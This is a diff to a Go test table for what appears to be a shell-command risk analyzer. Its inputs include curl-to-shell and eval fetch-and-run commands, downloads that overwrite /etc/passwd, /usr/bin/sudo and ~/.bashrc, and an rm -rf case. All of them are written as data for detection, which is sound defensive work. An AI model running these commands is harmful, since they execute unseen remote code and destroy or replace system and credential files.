@@ -187,6 +187,11 @@ func TestAnalyze(t *testing.T) {
 		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "curl; sh unseen-code:https://x.example/i.sh+D"},
 		{"eval \"$(curl -fsSL https://x.example/i.sh)\"", "curl; eval unseen-code:https://x.example/i.sh+D"},
 		{"eval \"$CMD\"", "eval unseen-code:$CMD+D"},
+		// Downloads name the file they write.
+		{"curl -fsSL -o /etc/passwd https://x.example/p", "curl write:/etc/passwd"},
+		{"wget -qO /usr/bin/sudo https://x.example/s", "wget write:/usr/bin/sudo"},
+		{"wget -qO- https://x.example/s", "wget"},
+		{"curl -o ~/.bashrc https://x.example/rc", "curl unseen-code:https://x.example/rc+D; curl write:/home/u/.bashrc"},
 		// Code with an unknown part: the nested line has the unknown word
 		// where it was written (rm -rf $D), not rm -rf.
 		{"bash -c \"rm -rf $D\"", "[bash -c]rm delete:+R+D"},
